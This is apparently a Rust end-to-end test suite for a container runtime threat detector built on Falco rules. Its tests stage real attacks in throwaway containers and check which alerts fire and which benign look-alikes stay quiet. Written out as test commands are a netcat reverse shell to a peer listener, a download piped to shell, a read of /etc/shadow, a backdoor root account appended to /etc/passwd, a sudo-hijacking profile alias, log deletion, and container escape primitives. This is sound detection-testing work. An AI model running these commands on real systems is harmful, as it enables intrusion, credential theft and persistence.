//! End to end: the real sensor, the rule library in `rules/` loaded beside Falco's
//! stable rules, and real containers doing attacks and benign work. Every scenario
//! asserts what fires and what must not. Scenarios are separate tests, so the
//! harness runs them in parallel threads against the one shared sensor.
//! Needs root and dockerd: skips with the reason elsewhere, fails in CI.

use std::time::Duration;

use rampart_detect_e2e::{detector, ready, resolver, TestContainer, TestNetwork};

const T: Duration = Duration::from_secs(30);
/// Time given to late events before asserting that something did not fire.
const SETTLE: Duration = Duration::from_secs(3);

fn assert_quiet(c: &TestContainer, rules: &[&str], what: &str) {
    std::thread::sleep(SETTLE);
    let bad: Vec<String> = detector()
        .matches_in(c)
        .into_iter()
        .filter(|m| rules.contains(&m.rule.as_str()))
        .map(|m| format!("{} <- {}", m.rule, m.cmdline()))
        .collect();
    assert!(bad.is_empty(), "{what}: unexpected alerts {bad:#?}");
}

#[test]
fn interactive_shell_via_docker_exec_tty() {
    if !ready() {
        return;
    }
    let d = detector();
    let c = TestContainer::start("rampart-de2e-tty", &[], &[]);
    // Without a terminal first: a scripted exec is not an interactive shell.
    c.exec("echo notty-marker");
    let out = c.exec_tty("echo tty-marker; exit 0");
    assert!(
        out.contains("tty-marker"),
        "docker exec -it output: {out:?}"
    );
    let m = d.wait_for("Interactive shell in container", &c, T, |m| {
        m.cmdline().contains("tty-marker")
    });
    assert!(m.event.process.as_ref().unwrap().tty != 0);
    // Falco's own rule fires on the same behaviour.
    d.wait_for("Terminal shell in container", &c, T, |m| {
        m.cmdline().contains("tty-marker")
    });
    std::thread::sleep(SETTLE);
    let notty: Vec<_> = d
        .matches_in(&c)
        .into_iter()
        .filter(|m| m.cmdline().contains("notty-marker"))
        .map(|m| m.rule)
        .collect();
    assert!(notty.is_empty(), "non-tty exec alerted: {notty:?}");
}

#[test]
fn reverse_shell_to_peer_listener() {
    if !ready() {
        return;
    }
    let d = detector();
    let net = TestNetwork::create("rampart-de2e-rev");
    let net_arg = format!("--network={}", net.name);
    // The attacker's listener sends two commands to whoever connects.
    let listener = TestContainer::start(
        "rampart-de2e-listener",
        &[&net_arg],
        &[
            "sh",
            "-c",
            "(echo 'echo pwned-by-listener; exit'; sleep 5) | nc -l -p 4444",
        ],
    );
    let victim = TestContainer::start("rampart-de2e-victim", &[&net_arg], &[]);
    d.wait_for("Netcat listener started", &listener, T, |_| true);
    // busybox nc takes -e last (everything after it is the program).
    let peer = listener.ip(&net.name);
    // The listener may not be accepting yet right after start: retry a few times.
    for _ in 0..10 {
        victim.exec(&format!("nc {peer} 4444 -e /bin/sh"));
        if !d
            .our_matches_in(&victim)
            .iter()
            .any(|m| m.rule == "Netcat or socat outbound connection")
        {
            std::thread::sleep(Duration::from_millis(500));
            continue;
        }
        break;
    }
    d.wait_for("Reverse shell via netcat exec", &victim, T, |m| {
        m.cmdline().contains("-e /bin/sh")
    });
    d.wait_for("Netcat or socat outbound connection", &victim, T, |_| true);
    // Falco's "Netcat Remote Code Execution in Container" keys on proc.name = nc; busybox
    // runs applets through /proc/self/exe (comm "exe"), so only our rules (which also
    // look at argv[0]) catch it here.
    // The listener itself is not a reverse shell.
    assert_quiet(
        &listener,
        &[
            "Reverse shell via netcat exec",
            "Netcat or socat outbound connection",
        ],
        "listener",
    );
}

#[test]
fn sensitive_reads_and_writes_below_etc() {
    if !ready() {
        return;
    }
    let d = detector();
    let c = TestContainer::start("rampart-de2e-etc", &[], &[]);
    // Benign neighbours first: an app reading its own config and the account list.
    c.exec("mkdir -p /srv/app && echo 'port: 8080' > /srv/app/config.yaml; cat /srv/app/config.yaml /etc/passwd /etc/hostname >/dev/null; true");
    assert_quiet(
        &c,
        &[
            "Shadow file read in container or by untrusted program",
            "Account database written",
            "Read sensitive file untrusted",
        ],
        "config reads",
    );
    c.exec("cat /etc/shadow > /dev/null; true");
    d.wait_for(
        "Shadow file read in container or by untrusted program",
        &c,
        T,
        |m| m.cmdline().starts_with("cat"),
    );
    d.wait_for("Read sensitive file untrusted", &c, T, |_| true);
    c.exec("echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd; echo 'alias sudo=/tmp/s' >> /root/.profile; true");
    d.wait_for("Account database written", &c, T, |_| true);
    d.wait_for("Shell profile modified", &c, T, |_| true);
}

#[test]
fn crontab_edits() {
    if !ready() {
        return;
    }
    let d = detector();
    let c = TestContainer::start("rampart-de2e-cron", &[], &[]);
    c.exec("crontab -l; true");
    assert_quiet(&c, &["Crontab edited", "Cron file written"], "crontab -l");
    c.exec("echo '* * * * * id' | crontab -");
    d.wait_for("Crontab edited", &c, T, |m| {
        m.cmdline().starts_with("crontab -")
    });
    c.exec("mkdir -p /etc/cron.d && echo '* * * * * root id' > /etc/cron.d/job; true");
    d.wait_for("Cron file written", &c, T, |_| true);
}

#[test]
fn download_piped_to_shell_and_health_checks() {
    if !ready() {
        return;
    }
    let d = detector();
    let net = TestNetwork::create("rampart-de2e-dl");
    let net_arg = format!("--network={}", net.name);
    let server = TestContainer::start(
        "rampart-de2e-dlsrv",
        &[&net_arg],
        &["sh", "-c", "mkdir -p /www && echo 'echo stage2-ran' > /www/x.sh && echo ok > /www/index.html && httpd -f -p 8080 -h /www"],
    );
    let client = TestContainer::start("rampart-de2e-dlcli", &[&net_arg], &[]);
    // Health checks and probes first: bodies discarded, nothing executed.
    let mut up = false;
    for _ in 0..20 {
        if client
            .exec("wget -q --spider http://rampart-de2e-dlsrv:8080/ && wget -qO /dev/null http://rampart-de2e-dlsrv:8080/index.html && echo up")
            .contains("up")
        {
            up = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    assert!(up, "test web server did not come up");
    assert_quiet(
        &client,
        &[
            "Download piped to shell",
            "Ingress tool transfer to writable directory",
        ],
        "health checks",
    );
    let out = client.exec("wget -qO- http://rampart-de2e-dlsrv:8080/x.sh | sh");
    assert!(out.contains("stage2-ran"), "{out:?}");
    d.wait_for("Download piped to shell", &client, T, |_| true);
    client.exec("wget -qO /tmp/x.sh http://rampart-de2e-dlsrv:8080/x.sh; true");
    d.wait_for(
        "Ingress tool transfer to writable directory",
        &client,
        T,
        |_| true,
    );
    drop(server);
}

#[test]
fn fileless_memfd_exec() {
    if !ready() {
        return;
    }
    let d = detector();
    let c = TestContainer::start("rampart-de2e-memfd", &[], &[]);
    c.exec("/bin/true");
    assert_quiet(&c, &["Fileless execution from memory"], "plain exec");
    c.exec("actions memfd-exec");
    d.wait_for("Fileless execution from memory", &c, T, |_| true);
}

#[test]
fn privileged_escape_primitives() {
    if !ready() {
        return;
    }
    let d = detector();
    let c = TestContainer::start(
        "rampart-de2e-priv",
        &[
            "--cap-add=SYS_ADMIN",
            "--cap-add=SYS_PTRACE",
            "--cap-add=SYS_MODULE",
            "--security-opt=seccomp=unconfined",
            "--security-opt=apparmor=unconfined",
        ],
        &[],
    );
    // Benign: tmpfs mount and dropping root for nobody.
    c.exec("actions mount; actions setuid; true");
    assert_quiet(
        &c,
        &[
            "Host filesystem or cgroupfs mounted in container",
            "Non-root process set uid to root",
        ],
        "tmpfs mount / privilege drop",
    );
    c.exec("mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg; mount -t cgroup2 none /tmp/cg; true");
    d.wait_for(
        "Host filesystem or cgroupfs mounted in container",
        &c,
        T,
        |_| true,
    );
    c.exec(
        "actions setns; actions ptrace; actions init-module; actions bpf; actions proc-mem; true",
    );
    d.wait_for("Setns called in container", &c, T, |_| true);
    d.wait_for("Process attached with ptrace", &c, T, |_| true);
    d.wait_for("PTRACE attached to process", &c, T, |_| true);
    d.wait_for("Kernel module loaded", &c, T, |_| true);
    d.wait_for("BPF program loaded from container", &c, T, |_| true);
    d.wait_for("Process memory written through /proc", &c, T, |_| true);
}

#[test]
fn log_tampering_versus_own_log_rotation() {
    if !ready() {
        return;
    }
    let d = detector();
    let c = TestContainer::start("rampart-de2e-logs", &[], &[]);
    // The application appends to its log and rotates it: rename, compress, prune.
    c.exec(
        "mkdir -p /var/log/app && cd /var/log/app && for i in 1 2 3 4; do \
           echo line$i >> app.log; [ -f app.log.2.gz ] && mv app.log.2.gz app.log.3.gz; \
           [ -f app.log.1 ] && mv app.log.1 app.log.2 && gzip -f app.log.2; \
           mv app.log app.log.1; rm -f app.log.3.gz; done; true",
    );
    assert_quiet(
        &c,
        &["Log file deleted", "Log file truncated"],
        "own log rotation",
    );
    c.exec("echo x > /var/log/auth.log; rm /var/log/auth.log; : > /var/log/app/app.log.1; true");
    // busybox sh runs rm inside the shell process (a "nofork" applet).
    d.wait_for("Log file deleted", &c, T, |_| true);
    d.wait_for("Log file truncated", &c, T, |_| true);
}

#[test]
fn benign_web_server_under_load_with_health_checks() {
    if !ready() {
        return;
    }
    let d = detector();
    let net = TestNetwork::create("rampart-de2e-web");
    let net_arg = format!("--network={}", net.name);
    let server = TestContainer::start(
        "rampart-de2e-websrv",
        &[
            &net_arg,
            "--health-cmd",
            "wget -q --spider http://localhost:8080/ || exit 1",
            "--health-interval",
            "1s",
        ],
        &[
            "sh",
            "-c",
            "mkdir -p /www && echo hello > /www/index.html && exec httpd -f -p 8080 -h /www",
        ],
    );
    let client = TestContainer::start("rampart-de2e-webcli", &[&net_arg], &[]);
    let out = client.exec(
        "n=0; for i in $(seq 1 300); do wget -qO /dev/null http://rampart-de2e-websrv:8080/index.html && n=$((n+1)); done; echo served=$n",
    );
    assert!(out.contains("served="), "{out:?}");
    let served: u32 = out
        .trim()
        .trim_start_matches("served=")
        .parse()
        .unwrap_or(0);
    assert!(served > 250, "web server under load answered only {served}");
    // The sensor did see this workload (so silence below means no false positive).
    assert!(
        docker_health_ran(&server),
        "the health check never ran in {}",
        server.name
    );
    std::thread::sleep(SETTLE);
    for c in [&server, &client] {
        let alerts: Vec<String> = d
            .our_matches_in(c)
            .into_iter()
            .map(|m| format!("{} <- {}", m.rule, m.cmdline()))
            .collect();
        assert!(
            alerts.is_empty(),
            "benign workload {} alerted: {alerts:#?}",
            c.name
        );
    }
}

fn docker_health_ran(c: &TestContainer) -> bool {
    for _ in 0..20 {
        let log =
            rampart_detect_e2e::docker(&["inspect", "-f", "{{len .State.Health.Log}}", &c.name]);
        if log.parse::<u32>().unwrap_or(0) > 0 {
            return true;
        }
        std::thread::sleep(Duration::from_millis(250));
    }
    false
}

const DEBIAN: &str = rampart_testbed::DEBIAN_IMAGE;

#[test]
fn package_manager_in_debian_container() {
    if !ready() {
        return;
    }
    if !rampart_testbed::image_present(DEBIAN) {
        rampart_testbed::skip_or_fail(format!(
            "{DEBIAN} is missing (scripts/setup runs scripts/build-debian-image)"
        ));
        return;
    }
    let d = detector();
    let name = "rampart-de2e-deb";
    rampart_testbed::remove_container(name);
    let id = rampart_detect_e2e::docker(&["run", "-d", "--name", name, DEBIAN, "sleep", "300"]);
    let c = TestContainer {
        id,
        name: name.to_string(),
    };
    // Querying the package database is not installing.
    c.exec("dpkg -l > /dev/null; apt-get --version > /dev/null; true");
    assert_quiet(&c, &["Package manager run in container"], "package queries");
    // No package lists in the image, so this fails fast; the attempt is what matters.
    c.exec("apt-get install -y --no-download nmap; true");
    d.wait_for("Package manager run in container", &c, T, |m| {
        m.cmdline().starts_with("apt-get install")
    });
}

/// Three of Falco's stable rules that need kernel facts beyond syscalls' arguments:
/// an AF_PACKET socket, a TCP socket dup2'ed onto stdin/stdout (the reverse-shell
/// wiring), and executing a binary written inside the container (overlayfs upper
/// layer). The benign look-alikes in the same container stay quiet.
#[test]
fn falco_packet_socket_stdio_redirect_and_drop_and_execute() {
    if !ready() {
        return;
    }
    let d = detector();
    let c = TestContainer::start("rampart-de2e-falco-kernel", &[], &[]);
    c.exec("actions packet-socket");
    c.exec("actions dup-socket </dev/null >/dev/null 2>&1");
    c.exec("cp /bin/busybox /tmp/dropped && /tmp/dropped true; /bin/true");
    d.wait_for("Packet socket created in container", &c, T, |m| {
        m.event
            .process
            .as_ref()
            .is_some_and(|p| p.comm == "actions")
    });
    d.wait_for(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        &c,
        T,
        |m| {
            m.event
                .process
                .as_ref()
                .is_some_and(|p| p.comm == "actions")
        },
    );
    d.wait_for("Drop and execute new binary in container", &c, T, |m| {
        m.event
            .process
            .as_ref()
            .is_some_and(|p| p.exe == "/tmp/dropped")
    });
    std::thread::sleep(SETTLE);
    let wrong: Vec<String> = d
        .matches_in(&c)
        .into_iter()
        .filter(|m| m.rule == "Drop and execute new binary in container")
        .filter(|m| {
            m.event
                .process
                .as_ref()
                .is_some_and(|p| p.exe != "/tmp/dropped")
        })
        .map(|m| m.cmdline())
        .collect();
    assert!(
        wrong.is_empty(),
        "image binaries flagged as dropped: {wrong:?}"
    );
}

/// Falco's "Contact K8S API Server From Container" compares the server address of a
/// connection with what `kubernetes.default.svc.cluster.local` resolves to. There is no
/// cluster here, so the test's resolver maps that name to a peer container standing in
/// for the API server; the connection, the sensor and the rule are real. A connection
/// to another address from the same container stays quiet.
#[test]
fn falco_contact_k8s_api_server_from_container() {
    if !ready() {
        return;
    }
    const RULE: &str = "Contact K8S API Server From Container";
    const NAME: &str = "kubernetes.default.svc.cluster.local";
    let d = detector();
    let net = TestNetwork::create("rampart-de2e-k8s");
    let net_arg = format!("--network={}", net.name);
    let api = TestContainer::start(
        "rampart-de2e-k8s-api",
        &[&net_arg],
        &["sh", "-c", "while true; do nc -l -p 443 </dev/null; done"],
    );
    let client = TestContainer::start("rampart-de2e-k8s-client", &[&net_arg], &[]);
    let api_ip = api.ip(&net.name);
    let ip: std::net::IpAddr = api_ip.parse().expect("container address");
    resolver().set(NAME, vec![ip]);
    d.rules.hostnames().refresh();
    assert_eq!(d.rules.hostnames().addresses(NAME), vec![ip]);
    // Benign first: a connection to another address (loopback) is not the API server.
    client.exec("nc -w 1 127.0.0.1 443 </dev/null; true");
    client.exec(&format!("nc -w 2 {api_ip} 443 </dev/null; true"));
    let m = d.wait_for(RULE, &client, T, |_| true);
    match &m.event.payload {
        rampart_event::Payload::NetConnect { remote, .. } => {
            assert_eq!(remote.ip(), Some(ip), "{:?}", m.event.payload)
        }
        other => panic!("{RULE} fired on {other:?}"),
    }
    std::thread::sleep(SETTLE);
    let wrong: Vec<String> = d
        .matches_in(&client)
        .into_iter()
        .filter(|m| m.rule == RULE)
        .filter(|m| match &m.event.payload {
            rampart_event::Payload::NetConnect { remote, .. } => remote.ip() != Some(ip),
            _ => true,
        })
        .map(|m| format!("{:?}", m.event.payload))
        .collect();
    assert!(wrong.is_empty(), "fired on other connections: {wrong:?}");
}

/// The runtime's own setup of a container and of each `docker exec` (runc, its memfd
/// clone of itself, runc init joining namespaces, mounting, setting ids) is not the
/// workload: the rules whose exception is the runtime, now recognised by its installed
/// binary and lineage rather than by name, stay quiet for it.
#[test]
fn container_runtime_setup_is_quiet() {
    if !ready() {
        return;
    }
    detector();
    let c = TestContainer::start(
        "rampart-de2e-runtime",
        &[
            "--cap-add=SYS_ADMIN",
            "--cap-add=SYS_PTRACE",
            "--security-opt=seccomp=unconfined",
            "--security-opt=apparmor=unconfined",
        ],
        &[],
    );
    for _ in 0..3 {
        c.exec("true");
    }
    assert_quiet(
        &c,
        &[
            "Setns called in container",
            "Unshare called in container",
            "Fileless execution from memory",
            "Mount attempted in container",
            "Mount attributes changed in container",
            "Chroot in container",
            "Host filesystem or cgroupfs mounted in container",
            "Container administration tool run in container",
        ],
        "container start and docker exec",
    );
}
